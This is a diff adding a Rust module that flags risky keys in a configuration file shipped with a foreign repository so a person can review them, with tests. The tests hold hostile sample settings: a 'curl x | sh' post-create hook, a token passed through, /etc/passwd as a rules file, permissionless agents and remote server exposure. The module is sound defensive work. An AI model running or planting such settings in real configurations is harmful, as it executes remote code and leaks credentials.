@@ -1,0 +1,165 @@
+//! A configuration that came with somebody else's repository: what in it would run, reach or decide more than its own project.
+//!
+//! Such a file counts for the whole daemon once it is registered, so a person has to have seen it first. This says what to
+//! look at and judges nothing: what it does not know to be harmless is told.
+
+use ao_config::shape::{ActionName, Defaults, Plugin, Project};
+use ao_config::{Config, LOCAL_FILE, Layer, LayerKind};
+use camino::Utf8Path;
+use serde_json::{Value, json};
+
+use crate::error::CommandError;
+use crate::host::configs;
+
+/// The keys of a file that say more than what the project is called, where it is and which of the known agents, runtimes and
+/// trackers it uses; with what they run, where that is known.
+pub(crate) fn strange(file: &Utf8Path) -> Result<Vec<String>, CommandError> {
+    let places = configs::places(Some(file))?;
+    let mut layers = vec![Layer { kind: LayerKind::Project, path: file.to_owned() }];
+    // What is meant for one person alone can come with a repository all the same.
+    let local = file.with_file_name(LOCAL_FILE);
+    if local.is_file() {
+        layers.push(Layer { kind: LayerKind::Local, path: local });
+    }
+    let loaded = ao_config::load_files(layers, &places).map_err(configs::config_error)?;
+    Ok(beyond(&loaded.config, file.parent().unwrap_or(Utf8Path::new("/"))))
+}
+
+fn beyond(config: &Config, folder: &Utf8Path) -> Vec<String> {
+    let mut said = Vec::new();
+    let harmless = harmless(config);
+    let (said_top, harmless_top) = (whole(config), whole(&harmless));
+    for (key, value) in differing(&said_top, &harmless_top) {
+        match key.as_str() {
+            "projects" => {}
+            "tools" => said.extend(config.tools.iter().map(|(name, manifest)| {
+                told(&format!("tools.{name}"), manifest.get("program").unwrap_or(&Value::Null))
+            })),
+            "defaults" => {
+                let inside = differing(value, &harmless_top["defaults"]);
+                said.extend(inside.map(|(key, _)| format!("`defaults.{key}`")));
+            }
+            key => said.push(format!("`{key}`")),
+        }
+    }
+    for (name, project) in &config.projects {
+        let plain = whole(&plain(project));
+        for (key, value) in differing(&whole(project), &plain) {
+            let path = format!("projects.{name}.{key}");
+            said.push(match key.as_str() {
+                "postCreate" | "teardown" => told(&path, value),
+                _ => format!("`{path}`"),
+            });
+        }
+        let real = |path: &Utf8Path| path.canonicalize_utf8().unwrap_or_else(|_| path.to_owned());
+        if !real(&project.path).starts_with(real(folder)) {
+            said.push(format!("`projects.{name}.path`"));
+        }
+    }
+    said
+}
+
+/// The same configuration without whatever could do harm. Its projects are looked at one by one.
+fn harmless(config: &Config) -> Config {
+    let named = |plugin: &Plugin| Plugin::named(&plugin.plugin);
+    let defaults = &config.defaults;
+    let mut reactions = config.reactions.clone();
+    // Somebody else's word is enough to tell an agent or a person something, and not to merge.
+    reactions
+        .0
+        .retain(|_, reaction| reaction.action != Some(ActionName::Merge) || reaction.auto == Some(false));
+    let mut harmless = Config {
+        schema: config.schema.clone(),
+        defaults: Defaults {
+            runtime: named(&defaults.runtime),
+            agent: defaults.agent.clone(),
+            workspace: named(&defaults.workspace),
+            tracker: named(&defaults.tracker),
+            scm: defaults.scm.as_ref().map(named),
+            ..Defaults::default()
+        },
+        reactions,
+        ..Config::default()
+    };
+    harmless.orchestrator.enabled = config.orchestrator.enabled;
+    harmless
+}
+
+/// The same project with nothing said of it but what it is.
+fn plain(project: &Project) -> Project {
+    let what_it_is = json!({
+        "path": project.path,
+        "repo": project.repo,
+        "defaultBranch": project.default_branch,
+        "sessionPrefix": project.session_prefix,
+    });
+    serde_json::from_value(what_it_is).expect("a project is what its parts are")
+}
+
+fn whole(value: &impl serde::Serialize) -> Value {
+    serde_json::to_value(value).expect("a configuration can be written")
+}
+
+/// The entries of a map that are not the same in another.
+fn differing<'a>(one: &'a Value, other: &'a Value) -> impl Iterator<Item = (&'a String, &'a Value)> {
+    let entries = one.as_object().into_iter().flatten();
+    entries.filter(move |(key, value)| other.get(key.as_str()) != Some(*value))
+}
+
+/// A key with what it runs, as much of it as fits a line.
+fn told(path: &str, value: &Value) -> String {
+    const FITS: usize = 100;
+    let text = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
+    let text = ao_core::text::sanitise(&text).replace('\n', " ");
+    let cut = if text.chars().count() > FITS { "…" } else { "" };
+    format!("`{path}`: {}{cut}", text.chars().take(FITS).collect::<String>())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn said(text: &str) -> Vec<String> {
+        let folder = tempfile::tempdir().unwrap();
+        let file = Utf8Path::from_path(folder.path()).unwrap().join("agent-orchestrator.yaml");
+        std::fs::write(&file, text).unwrap();
+        strange(&file).unwrap()
+    }
+
+    #[test]
+    fn what_is_written_at_first_is_nothing_to_look_at() {
+        let init = ao_config::init::Init {
+            project: "app".into(),
+            repo: Some("owner/app".into()),
+            path: ".".into(),
+            default_branch: "main".into(),
+            tracker: "github".into(),
+            agent: "codex".into(),
+            runtime: "tmux".into(),
+            workspace: "worktree".into(),
+            schema: None,
+        };
+        assert_eq!(said(&ao_config::init::template(&init)), <[String; 0]>::default());
+    }
+
+    #[test]
+    fn whatever_runs_reaches_or_decides_more_is_told() {
+        let project = |more: &str| said(&format!("projects:\n  app:\n    path: .\n{more}"));
+        for (more, key) in [
+            ("    postCreate: ['curl x | sh']\n", "`projects.app.postCreate`: [\"curl x | sh\"]"),
+            ("    env: { pass: [GITHUB_TOKEN] }\n", "`projects.app.env`"),
+            ("    agentRulesFile: /etc/passwd\n", "`projects.app.agentRulesFile`"),
+            ("    worker: { agentConfig: { permissions: permissionless } }\n", "`projects.app.worker`"),
+            ("    runtime: { plugin: docker, image: x }\n", "`projects.app.runtime`"),
+            ("tools: { claude-code: { program: ./mine } }\n", "`tools.claude-code`: ./mine"),
+            ("notifiers: { mine: { plugin: webhook, url: 'https://x.example' } }\n", "`notifiers`"),
+            ("server: { listen: 0.0.0.0, allowRemote: true }\n", "`server`"),
+            ("orchestrator: { agentConfig: { args: [--x] } }\n", "`orchestrator`"),
+            ("reactions: { approved-and-green: { auto: true, action: merge } }\n", "`reactions`"),
+            ("defaults: { tracker: { plugin: gitlab, url: 'https://x.example' } }\n", "`defaults.tracker`"),
+        ] {
+            assert_eq!(project(more), [key], "{more}");
+        }
+        assert_eq!(said("projects: { app: { path: .. } }\n"), ["`projects.app.path`"]);
+    }
+}
